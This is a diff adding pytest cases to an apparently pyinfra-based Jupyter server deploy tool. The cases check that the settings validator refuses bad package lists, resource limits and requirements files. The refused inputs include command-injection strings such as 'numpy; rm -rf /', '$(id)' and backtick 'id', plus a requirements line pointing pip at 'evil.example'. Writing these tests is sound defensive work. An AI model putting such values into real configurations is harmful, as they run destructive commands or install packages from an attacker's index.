@@ -112,6 +112,10 @@ def run_cli(*data, env_password="correct horse"):
     ("jupyter_base_url=jupyter", "setting jupyter_base_url = 'jupyter' is not allowed"),
     ("jupyter_password_hash=hunter2", "setting jupyter_password_hash = (value hidden) is not allowed"),
     ("jupyter_prot=8888", "unknown setting 'jupyter_prot': did you mean 'jupyter_port'?"),
+    ("memory_limt=600M", "unknown setting 'memory_limt': did you mean 'memory_limit'?"),
+    ("kernel_memory=600M", "unknown setting 'kernel_memory' given with --data: this version has no such setting"),
+    ("pip_packages=[\"numpy; rm -rf /\"]", "setting pip_packages = ['numpy; rm -rf /'] is not allowed"),
+    ("memory_limit=100M", "setting memory_limit = '100M' is not allowed"),
 ])
 def test_cli_refuses_bad_input_before_any_operation(data, message):
     result = run_cli(data)
@@ -181,6 +185,60 @@ def test_acme_ca_bundle_must_be_certificates_only(tmp_path):
 class FakeData(dict):
     def dict(self):
         return dict(self)
+
+
+def test_unknown_name_in_inventory_data_is_a_warning_naming_it(tmp_path):
+    inventory = tmp_path / "inventory.py"
+    inventory.write_text('notebooks = [("@fake", {"server_name": "nb.test", "course_name": "physics 101"})]\n')
+    env = dict(os.environ, PYINFRA_FAKE_DELAY="0", PYINFRA_FAKE_DELAY_JITTER="0", **{settings.PASSWORD_ENV: "x"})
+    result = subprocess.run([sys.executable, "-m", "pyinfra", "-y", "--dry", str(inventory), "deploy.py"],
+                            cwd=ROOT, capture_output=True, text=True, timeout=120)
+    output = result.stdout + result.stderr
+    assert "host data 'course_name' is not a setting of this deploy and is ignored" in output
+    assert "physics 101" not in output
+
+
+@pytest.mark.parametrize("keys,unknown", [
+    ({"ssh_user", "ssh_file_transfer_protocol", "_sudo", "fake_responses", "memory_limit"}, []),
+    ({"memory_limit", "kernel_memory"}, ["kernel_memory"]),
+])
+def test_only_names_that_are_neither_ours_nor_pyinfras_are_unknown(keys, unknown):
+    assert settings.unknown_names(keys) == unknown
+
+
+@pytest.mark.parametrize("name,value", [
+    ("pip_packages", ["requests>=2.31,<3", "tabulate==0.9.0", "jupyterlab-git", "black[jupyter]~=24.1"]),
+    ("conda_packages", ["numpy", "scipy>=1.11", "conda-forge::xarray", "python=3.11", "pytorch=2.1=*cpu*"]),
+    ("memory_limit", "2G"), ("memory_limit", "80%"), ("memory_limit", None), ("cpu_limit", 1.5), ("cpu_limit", 2),
+    ("cull_idle_kernels_after", 0), ("cull_idle_kernels_after", 3600), ("apache_proxy_timeout", 60),
+])
+def test_good_environment_values_are_accepted(name, value):
+    assert settings.check_values({name: value}, environ=ENV) == []
+
+
+@pytest.mark.parametrize("name,value", [
+    ("pip_packages", ["numpy pandas"]), ("pip_packages", ["numpy;rm -rf /"]), ("pip_packages", ["x @ https://e.org/x.whl"]),
+    ("pip_packages", ["https://e.org/x.whl"]), ("pip_packages", ["-e ."]), ("pip_packages", ["$(id)"]), ("pip_packages", "numpy"),
+    ("pip_packages", ["numpy", "numpy"]), ("conda_packages", ["numpy 1.2"]), ("conda_packages", ["numpy`id`"]),
+    ("memory_limit", "100M"), ("memory_limit", "99%"), ("memory_limit", "2GB"), ("memory_limit", 2),
+    ("cpu_limit", 0), ("cpu_limit", "1.5"), ("cull_idle_kernels_after", 5), ("cull_idle_kernels_after", -1),
+    ("apache_proxy_timeout", 1),
+])
+def test_bad_environment_values_are_refused(name, value):
+    [error] = settings.check_values({name: value}, environ=ENV)
+    assert error.startswith(f"setting {name} = {value!r} is not allowed: must be ")
+
+
+def test_requirements_file_is_checked_on_the_control_machine(tmp_path):
+    good = tmp_path / "good.txt"
+    good.write_text("# course pins\ntabulate==0.9.0\n\nrequests>=2.31  # http\n")
+    assert settings.check_values({"pip_requirements": str(good)}, environ=ENV) == []
+    bad = tmp_path / "bad.txt"
+    bad.write_text("tabulate\n--index-url https://evil.example/simple\n")
+    [error] = settings.check_values({"pip_requirements": str(bad)}, environ=ENV)
+    assert "line 2 is '--index-url https://evil.example/simple'" in error
+    [error] = settings.check_values({"pip_requirements": str(tmp_path / "missing.txt")}, environ=ENV)
+    assert "readable local requirements file" in error
 
 
 class FakeHost:
